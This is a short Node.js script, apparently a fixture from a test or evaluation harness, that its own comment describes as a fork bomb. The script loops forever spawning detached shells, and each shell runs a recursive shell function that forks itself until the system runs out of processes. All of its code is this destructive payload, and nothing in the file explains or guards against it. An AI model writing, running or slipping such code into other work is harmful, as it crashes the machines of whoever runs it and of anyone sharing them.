// A fork bomb: every copy starts two more, and each ends only when the machine gives way.
// outcome: build
// seconds: 4
const { canary } = require("./loot.js");
const { spawn } = require("child_process");

for (;;) {
  spawn("/bin/sh", ["-c", `b() { b | b & sleep ${canary.mark}; }; b`], { detached: true, stdio: "inherit" })
    .on("error", () => {});
}
